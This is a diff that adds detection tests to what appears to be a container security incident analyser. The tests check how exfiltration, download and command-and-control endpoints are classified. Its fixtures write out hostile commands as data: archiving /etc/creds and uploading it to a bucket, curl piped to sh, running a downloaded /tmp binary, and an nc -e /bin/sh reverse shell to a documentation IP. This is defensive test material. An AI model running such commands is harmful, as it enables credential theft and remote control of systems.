@@ -478,3 +478,100 @@ def test_what_the_reached_pods_server_fetched_for_the_attacker_is_a_download_end
     assert sorted((e.ip, e.port, e.role) for e in i.endpoints) == [("203.0.113.7", 6379, "download"),
                                                                    ("203.0.113.8", 4444, "c2")]
     assert "T1105" in i.techniques
+
+
+def _exfil_through_the_usual_bucket():
+    """A service's main process uploads to one bucket endpoint all day; just before a request's
+    shell it reached two new outside addresses (an exploit's callback, then its payload); the shell
+    archives a secret and an uploader sends the archive to the same bucket endpoint."""
+    k = {"node": "n1", "namespace": "a", "pod": "web-1", "workload": "web", "daddr": None, "dport": None}
+    procs = [proc("main", None, "web-1", "/srv/app", t=-1000 * S, seen="event"),
+             proc("sh", "main", "web-1", "/bin/sh", "-c tar czf /tmp/c.tgz /etc/creds; up cp /tmp/c.tgz s3://b/",
+                  100 * S, exit_ns=102 * S),
+             proc("tar", "sh", "web-1", "/bin/tar", "czf /tmp/c.tgz /etc/creds", 100 * S + 2 * MS, exit_ns=100 * S + 30 * MS),
+             proc("up", "sh", "web-1", "/usr/bin/up", "cp /tmp/c.tgz s3://b/", 100 * S + 40 * MS, exit_ns=101 * S)]
+    flows = [flow(f"m{j}", j * 10 * S, "main", ("a", "web-1"), None, 443, dst_ip="52.0.0.1") for j in range(-90, 20)]
+    flows += [flow("cb", 100 * S - 200 * MS, "main", ("a", "web-1"), None, 1389, dst_ip="203.0.113.9"),
+              flow("dl", 100 * S - 100 * MS, "main", ("a", "web-1"), None, 8000, dst_ip="203.0.113.9"),
+              flow("ex", 100 * S + 50 * MS, "up", ("a", "web-1"), None, 443, dst_ip="52.0.0.1")]
+    kp = [{**k, "event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 20 * MS, "exec_id": "tar",
+           "function_name": "security_file_permission", "file_path": "/tmp/c.tgz",
+           "hook_args": '[{"file_arg":{}},{"int_arg":2}]'},
+          {**k, "event_id": "k2", "kind": "process_kprobe", "time_ns": 100 * S + 45 * MS, "exec_id": "up",
+           "function_name": "security_file_permission", "file_path": "/tmp/c.tgz",
+           "hook_args": '[{"file_arg":{}},{"int_arg":4}]'}]
+    hits = _hits([{"rule_id": "falco:Read sensitive file", "title": "Read sensitive file", "level": "high",
+                   "techniques": ["T1552.001"], "exec_id": "tar", "event_id": "h1"}])
+    return frames(procs, flows, kp, hits)
+
+
+def test_sending_out_a_file_the_line_wrote_is_the_key_and_exfil_even_to_the_usual_endpoint():
+    (i,) = find_in(**_exfil_through_the_usual_bucket()).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "up"  # not the archiver
+    ends = {(e.ip, e.port): e.role for e in i.endpoints}
+    assert ends[("52.0.0.1", 443)] == "exfil"
+    assert "T1048" in i.techniques and "T1567" in i.techniques
+
+
+def test_a_services_new_destinations_just_before_its_shell_are_the_incidents_callback_and_download():
+    (i,) = find_in(**_exfil_through_the_usual_bucket()).incidents
+    ends = {(e.ip, e.port): e.role for e in i.endpoints}
+    assert ends[("203.0.113.9", 1389)] == "callback" and ends[("203.0.113.9", 8000)] == "download"
+    assert "T1105" in i.techniques
+
+
+def test_curl_piped_to_sh_is_a_download_and_the_shells_repeated_calls_a_c2_named_by_the_pods_dns():
+    procs = [proc("top", "shim", "web-1", "/bin/sh", "-c curl -s http://c.example/s|sh", 100 * S, init=False,
+                  exit_ns=150 * S),
+             proc("curl", "top", "web-1", "/usr/bin/curl", "-s http://c.example/s", 100 * S + 2 * MS, init=False,
+                  exit_ns=100 * S + 400 * MS),
+             proc("sh", "top", "web-1", "/bin/sh", "", 100 * S + 3 * MS, init=False, exit_ns=150 * S),
+             proc("id", "sh", "web-1", "/usr/bin/id", "", 101 * S, init=False, exit_ns=101 * S + MS),
+             proc("shim", None, None, "/shim", "", 99 * S)]
+    out = ("a", "web-1")
+    fr = frames(procs, [flow("c1", 100 * S + 10 * MS, "curl", out, None, 443, dst_ip="203.0.113.20"),
+                        flow("s1", 120 * S, "sh", out, None, 443, dst_ip="203.0.113.20"),
+                        flow("s2", 140 * S, "sh", out, None, 443, dst_ip="203.0.113.20")])
+    fl = fr["flows"].with_columns(pl.lit(None, pl.String).alias("dns_query"), pl.lit(None, pl.List(pl.String)).alias("dns_ips"))
+    answer = {**flow("d1", 100 * S + 5 * MS, None, ("kube-system", "dns-0"), out, 40000, dst_ip="10.0.0.1"),
+              "is_reply": True, "dns_query": "c.example.", "dns_ips": ["203.0.113.20"]}
+    fr["flows"] = pl.concat([fl, pl.DataFrame([answer], schema=fl.schema)])
+    fr["hits"] = _hits([{"rule_id": "falco:Unexpected outbound", "title": "Unexpected outbound", "level": "high",
+                         "techniques": ["T1071"], "exec_id": "sh", "event_id": "h1"}])
+    (i,) = find_in(**fr).incidents
+    (e,) = i.endpoints
+    assert (e.ip, e.port, e.role, e.fqdn) == ("203.0.113.20", 443, "c2", "c.example")
+    assert "T1105" in i.techniques  # the fetch piped into the shell
+
+
+def test_a_program_fetched_by_one_command_and_run_by_a_later_one_is_one_incident_without_file_hooks():
+    """Two requests into a service: the first's shell downloads /tmp/k (``curl -o``), the
+    second's runs it; no file hook saw the write, the arguments name the path."""
+    procs = [proc("main", None, "web-1", "/srv/app", t=-1000 * S, seen="event"),
+             proc("sh1", "main", "web-1", "/bin/sh", "-c curl -so /tmp/k https://dl.example/k", 100 * S, exit_ns=104 * S),
+             proc("curl", "sh1", "web-1", "/usr/bin/curl", "-so /tmp/k https://dl.example/k", 100 * S + 2 * MS,
+                  exit_ns=104 * S),
+             proc("sh2", "main", "web-1", "/bin/sh", "-c /tmp/k --scan", 160 * S, exit_ns=170 * S),
+             proc("k", "sh2", "web-1", "/tmp/k", "--scan", 160 * S + 2 * MS, exit_ns=170 * S)]
+    out = ("a", "web-1")
+    flows = [flow("d", 100 * S + 10 * MS, "curl", out, None, 443, dst_ip="203.0.113.30"),
+             flow("o", 161 * S, "k", out, None, 4444, dst_ip="203.0.113.31")]
+    hits = _hits([{"rule_id": "falco:Binary run from /tmp", "title": "Binary run from /tmp", "level": "high",
+                   "techniques": ["T1036"], "exec_id": "k", "event_id": "h1"}])
+    (i,) = find_in(**frames(procs, flows, hits=hits)).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "k"
+    assert i.chain == ["sh1", "curl", "k"]
+    assert {(e.ip, e.role) for e in i.endpoints} >= {("203.0.113.30", "download")}
+
+
+def test_a_tool_delivered_then_run_whose_child_connects_out_keys_on_the_child_not_the_delivery():
+    procs = [proc("tar", None, "web-1", "/bin/tar", "xf - -C /tmp", 100 * S, init=False),
+             proc("tool", None, "web-1", "/tmp/tool", "--scan", 160 * S, init=False),
+             proc("nc", "tool", "web-1", "/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", 160 * S + 5 * MS, init=False)]
+    flows = [flow("o1", 161 * S, "nc", ("a", "web-1"), None, 4444, dst_ip="203.0.113.5")]
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 5 * MS, "node": "n1", "namespace": "a",
+           "pod": "web-1", "workload": "web", "exec_id": "tar", "function_name": "security_file_permission",
+           "file_path": "/tmp/tool", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
+    (i,) = find_in(**frames(procs, flows, kp)).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "nc"
+    assert i.entry is not None and i.entry.exec_id == "tar"
